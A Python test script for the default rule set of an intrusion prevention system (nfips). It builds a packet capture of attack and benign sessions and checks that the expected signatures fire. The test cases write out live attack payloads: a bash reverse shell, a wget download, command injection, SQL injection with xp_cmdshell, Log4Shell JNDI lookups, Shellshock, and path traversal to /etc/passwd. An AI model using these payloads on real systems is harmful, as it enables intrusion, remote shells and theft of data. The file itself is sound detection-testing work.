#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
"""
The shipped default policy (policies/default.rules):

1. ``nfipsctl rules check`` parses it with zero errors and skips nothing;
2. every rule is classified as its ``metadata: nfips_path`` says
   (``kernel``: kernel-decided, ``daemon``: slow path with a fast pattern),
   one test point per rule, and every sid lies in nfips' own range;
3. ``nfipsctl policy apply --test`` encodes every rule for the kernel;
4. ``nfipsctl replay`` over a capture of attacks and benign sessions
   (written here, no scapy) raises exactly the expected sids per session,
   nothing on benign traffic, and every rule of the policy fires at least
   once.

Prints TAP lines. selftests/unit/default_policy.sh runs it in make check.
"""
import json
import os
import re
import struct
import subprocess
import sys
import tempfile

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(os.path.dirname(HERE))
NFIPSCTL = os.path.join(ROOT, "ctl", "nfipsctl", "nfipsctl")
POLICY = os.path.join(ROOT, "policies", "default.rules")
CLASSIFICATION = os.path.join(ROOT, "policies", "classification.config")
SID_MIN, SID_MAX = 9000000, 9099999

# The demo's addresses: the server network is HOME_NET.
CLIENT, SERVER = "10.0.1.2", "10.0.2.2"
VARS = ["--var", "HOME_NET=[10.0.2.0/24,fd6e:6669:7073:2::/64]"]


class Tap:
    def __init__(self):
        self.n = self.failed = 0

    def ok(self, cond, name, diag=None):
        self.n += 1
        print("%sok %d - %s" % ("" if cond else "not ", self.n, name))
        if not cond:
            self.failed += 1
            for line in str(diag or "").splitlines():
                print("# " + line)
        sys.stdout.flush()
        return cond


def run(args):
    p = subprocess.run([NFIPSCTL] + args, capture_output=True, text=True, timeout=120)
    return p.returncode, p.stdout, p.stderr


# ---- the rules file itself -------------------------------------------------

def declared():
    """{sid: (nfips_path, line)} from the rules file's metadata."""
    out = {}
    with open(POLICY) as f:
        for lineno, line in enumerate(f, 1):
            if not re.match(r"^(alert|drop|reject|pass)\s", line):
                continue
            sid = re.search(r"[(;]\s*sid:\s*(\d+)\s*;", line)
            path = re.search(r"nfips_path (\w+)", line)
            out[int(sid.group(1)) if sid else -lineno] = (
                path.group(1) if path else None, lineno)
    return out


def check_classes(t):
    rc, out, err = run(["rules", "check", "--list", "--classification",
                        CLASSIFICATION, POLICY])
    summary = out.strip().splitlines()[-1] if out.strip() else ""
    t.ok(rc == 0 and summary.endswith(" skipped=0 errors=0") and not err.strip(),
         "default policy: rules check, zero errors, nothing skipped",
         "exit %d\n%s\n%s" % (rc, summary, err))
    got = {}
    for line in out.splitlines():
        m = re.match(r"^(kernel|slow|skip) 1:(\d+) \S+?:(\d+)(?:: (.*))?$", line)
        if m:
            got[int(m.group(2))] = (m.group(1), m.group(4))
    want = declared()
    for sid, (path, lineno) in sorted(want.items()):
        cls, why = got.get(sid, ("missing", None))
        expect = {"kernel": "kernel", "daemon": "slow"}.get(path)
        t.ok(SID_MIN <= sid <= SID_MAX and expect is not None and cls == expect,
             "default policy: sid %d is %s" % (sid, path),
             "line %d: metadata nfips_path %s, sid range %d-%d, classified %s%s" %
             (lineno, path, SID_MIN, SID_MAX, cls, " (%s)" % why if why else ""))
    t.ok(set(got) == set(want), "default policy: every rule listed once",
         "listed %s\ndeclared %s" % (sorted(got), sorted(want)))
    return want


def check_wire(t, want):
    rc, out, err = run(["policy", "apply", "--test", "--classification",
                        CLASSIFICATION] + VARS + [POLICY])
    nk = sum(1 for p, _ in want.values() if p == "kernel")
    nd = sum(1 for p, _ in want.values() if p == "daemon")
    line = "rules=%d kernel=%d daemon=%d skipped=0 selectors=" % (len(want), nk, nd)
    t.ok(rc == 0 and any(l.startswith(line) for l in out.splitlines()),
         "default policy: policy apply --test sends %d kernel rules, %d daemon rules' selectors" %
         (nk, nd),
         "exit %d, want '%s'\n%s%s" % (rc, line, out, err))


# ---- a capture of attacks and benign sessions ------------------------------

def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def ipv4(src, dst, proto, l4):
    s, d = bytes(map(int, src.split("."))), bytes(map(int, dst.split(".")))
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(l4), 1, 0x4000, 64,
                      proto, 0, s, d)
    hdr = hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:]
    # The L4 checksum covers a pseudo-header; its field sits at @off.
    off = 16 if proto == 6 else 6
    pseudo = s + d + struct.pack("!BBH", 0, proto, len(l4))
    l4 = l4[:off] + struct.pack("!H", csum(pseudo + l4) or 0xffff) + l4[off + 2:]
    return b"\x02\0\0\0\0\x02\x02\0\0\0\0\x01\x08\x00" + hdr + l4


def tcp(src, sport, dst, dport, seq, ack, flags, data=b""):
    l4 = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xffffffff, ack & 0xffffffff,
                     5 << 4, flags, 65535, 0, 0) + data
    return ipv4(src, dst, 6, l4)


def udp(src, sport, dst, dport, data):
    return ipv4(src, dst, 17, struct.pack("!HHHH", sport, dport, 8 + len(data), 0) + data)


SYN, ACK, PSH, FIN = 0x02, 0x10, 0x08, 0x01


def session(port, request, response=b"", srv_port=80):
    """A whole TCP session: handshake, request, response, close."""
    c, s = 1000, 5000
    pk = [tcp(CLIENT, port, SERVER, srv_port, c, 0, SYN),
          tcp(SERVER, srv_port, CLIENT, port, s, c + 1, SYN | ACK),
          tcp(CLIENT, port, SERVER, srv_port, c + 1, s + 1, ACK),
          tcp(CLIENT, port, SERVER, srv_port, c + 1, s + 1, PSH | ACK, request)]
    c += 1 + len(request)
    if response:
        pk.append(tcp(SERVER, srv_port, CLIENT, port, s + 1, c, PSH | ACK, response))
    s += 1 + len(response)
    pk += [tcp(CLIENT, port, SERVER, srv_port, c, s, FIN | ACK),
           tcp(SERVER, srv_port, CLIENT, port, s, c + 1, FIN | ACK),
           tcp(CLIENT, port, SERVER, srv_port, c + 1, s + 1, ACK)]
    return pk


def get(path, headers=()):
    h = "".join("%s\r\n" % x for x in headers)
    return ("GET %s HTTP/1.1\r\nHost: www.example.com\r\n%sAccept: */*\r\n\r\n" %
            (path, h)).encode()


def ok(body):
    body = body.encode() if isinstance(body, str) else body
    return b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body


EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

# (name, expected sids, packets built from the client port)
CASES = [
    ("benign: GET / with scripts and relative links in the page", set(), lambda p: session(
        p, get("/index.html", ["User-Agent: curl/7.88.1"]),
        ok("<html><script>var f = function () { return 1; };</script>"
           "<a href=\"../../docs/union-select.html\">Union Station; id card</a></html>"))),
    ("benign: form with look-alike words", set(), lambda p: session(
        p, b"POST /comment HTTP/1.1\r\nHost: www.example.com\r\nContent-Type: "
           b"application/x-www-form-urlencoded\r\nContent-Length: 62\r\n\r\n"
           b"text=Meet+at+Union+Station;+bring+id+card&sleep=8h&x=1=1&a=b", ok("thanks"))),
    ("benign: UDP syslog", set(), lambda p: [udp(
        CLIENT, p, SERVER, 514, b"<14>Nov 23 10:00:00 web1 app: user alice logged in")]),
    ("path traversal to /etc/passwd", {9000101}, lambda p: session(
        p, get("/../../etc/passwd"))),
    ("deep path traversal", {9000101, 9000105}, lambda p: session(
        p, get("/static/../../../../etc/passwd"))),
    ("URL-encoded path traversal", {9000102}, lambda p: session(
        p, get("/download?file=..%2F..%2Fetc%2Fhosts"))),
    ("double-encoded traversal to win.ini", {9000103, 9000104}, lambda p: session(
        p, get("/view?f=%252e%252e%252fwindows/win.ini"))),
    ("reverse shell via /dev/tcp", {9000201}, lambda p: session(
        p, b"POST /ping HTTP/1.1\r\nHost: www.example.com\r\nContent-Length: 52\r\n\r\n"
           b"host=127.0.0.1;bash -i >& /dev/tcp/10.0.1.2/4444 0>&1")),
    ("wget after an encoded separator", {9000202}, lambda p: session(
        p, get("/ping?host=127.0.0.1%3Bwget%20http://198.51.100.7/x.sh"))),
    ("encoded $() substitution", {9000203}, lambda p: session(
        p, get("/ping?host=127.0.0.1%24%28id%29"))),
    ("id after a separator", {9000204}, lambda p: session(
        p, get("/ping?host=127.0.0.1;id"))),
    ("whoami after a pipe, encoded", {9000205}, lambda p: session(
        p, get("/ping?host=127.0.0.1%7Cwhoami"))),
    ("UNION SELECT with %20", {9000301, 9000303}, lambda p: session(
        p, get("/item?id=1%20UNION%20SELECT%20username,password%20FROM%20users"))),
    ("UNION SELECT with +", {9000302, 9000303}, lambda p: session(
        p, get("/item?id=1+union+select+1,2"))),
    ("UNION ALL SELECT with comments", {9000303}, lambda p: session(
        p, get("/item?id=1/**/UNION/**/ALL/**/SELECT/**/NULL"))),
    ("tautology ' OR 1=1", {9000304}, lambda p: session(
        p, get("/login?user=admin'%20OR%201=1--"))),
    ("tautology ' OR '1'='1, encoded", {9000308}, lambda p: session(
        p, get("/login?user=admin%27%20OR%20%271%27%3D%271"))),
    ("xp_cmdshell", {9000305}, lambda p: session(
        p, get("/item?id=1;EXEC%20master..xp_cmdshell%20%27dir%27"))),
    ("information_schema", {9000306}, lambda p: session(
        p, get("/search?q=table_name%20from%20information_schema.tables"))),
    ("time-based blind SQL injection", {9000307}, lambda p: session(
        p, get("/item?id=1%20AND%20SLEEP(5)"))),
    ("Log4Shell in a header", {9000401}, lambda p: session(
        p, get("/", ["User-Agent: ${jndi:ldap://198.51.100.7:1389/a}"]))),
    ("Log4Shell over UDP syslog", {9000402}, lambda p: [udp(
        CLIENT, p, SERVER, 514, b"<14>Nov 23 10:00:00 ${jndi:ldap://198.51.100.7/a}")]),
    ("Log4Shell URL-encoded", {9000403}, lambda p: session(
        p, get("/?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%2Fa%7D"))),
    ("Log4Shell obfuscated", {9000404}, lambda p: session(
        p, get("/", ["X-Api-Version: ${${lower:j}ndi:ldap://198.51.100.7/a}"]))),
    ("Shellshock, spaced", {9000501, 9000503}, lambda p: session(
        p, get("/cgi-bin/status", ["User-Agent: () { :; }; echo; /bin/cat /etc/passwd"]))),
    ("Shellshock, compact", {9000502, 9000503}, lambda p: session(
        p, get("/cgi-bin/status", ["Referer: () { :;}; /bin/bash -c 'uname'"]))),
    ("Shellshock, other body", {9000503}, lambda p: session(
        p, get("/cgi-bin/status", ["Cookie: () { _; } ; /bin/sleep 5"]))),
    ("Nmap NSE", {9000601}, lambda p: session(
        p, get("/", ["User-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine; "
                     "https://nmap.org/book/nse.html)"]))),
    ("sqlmap", {9000602}, lambda p: session(
        p, get("/item?id=1", ["User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)"]))),
    ("Nikto", {9000603}, lambda p: session(
        p, get("/", ["User-Agent: Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)"]))),
    ("testmyids response", {9000701}, lambda p: session(
        p, get("/uid/index.html"), ok("uid=0(root) gid=0(root) groups=0(root)\n"))),
    ("EICAR download", {9000702}, lambda p: session(
        p, get("/eicar.com"), ok(EICAR))),
    ("/etc/passwd leaving a server", {9000703}, lambda p: session(
        p, get("/report"), ok("root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/:/bin/sh\n"))),
    ("Windows command prompt banner", {9000704}, lambda p: session(
        p, b"\r\n", b"Microsoft Windows [Version 10.0.19045.3570]\r\n(c) Microsoft "
        b"Corporation. All rights reserved.\r\n\r\nC:\\Windows\\system32>", srv_port=4444)),
]


def check_replay(t, want, tmp):
    pcap = os.path.join(tmp, "default.pcap")
    recs, ts = [], 1700000000 * 1000000
    for i, (_, _, build) in enumerate(CASES):
        for pkt in build(41000 + i):
            recs.append((ts, pkt))
            ts += 1000
    with open(pcap, "wb") as f:
        f.write(struct.pack("<IHHiIII", 0xa1b2c3d4, 2, 4, 0, 0, 65535, 1))
        for ts, data in recs:
            f.write(struct.pack("<IIII", ts // 1000000, ts % 1000000, len(data), len(data)))
            f.write(data)
    rc, out, err = run(["replay", "--rules", POLICY, "--classification", CLASSIFICATION,
                        "--sensor", "test", "--pcap", pcap] + VARS)
    if not t.ok(rc == 0, "default policy: replay runs", "exit %d\n%s" % (rc, err)):
        return
    got = {}
    for line in out.splitlines():
        a = json.loads(line)
        port = a["src_port"] if a["src_port"] not in (80, 514, 4444) else a["dest_port"]
        got.setdefault(port - 41000, set()).add(a["alert"]["signature_id"])
    fired = set()
    for i, (name, sids, _) in enumerate(CASES):
        fired |= got.get(i, set())
        t.ok(got.get(i, set()) == sids, "default policy replay: %s -> %s" %
             (name, ", ".join(map(str, sorted(sids))) or "nothing"),
             "alerted %s" % sorted(got.get(i, set())))
    t.ok(set(want) <= fired, "default policy replay: every rule fires",
         "never fired: %s" % sorted(set(want) - fired))


def main():
    t = Tap()
    if not os.access(NFIPSCTL, os.X_OK):
        print("not ok 1 - default policy: %s not built" % NFIPSCTL)
        return 1
    want = check_classes(t)
    check_wire(t, want)
    with tempfile.TemporaryDirectory() as tmp:
        check_replay(t, want, tmp)
    print("1..%d" % t.n)
    return 1 if t.failed else 0


if __name__ == "__main__":
    sys.exit(main())
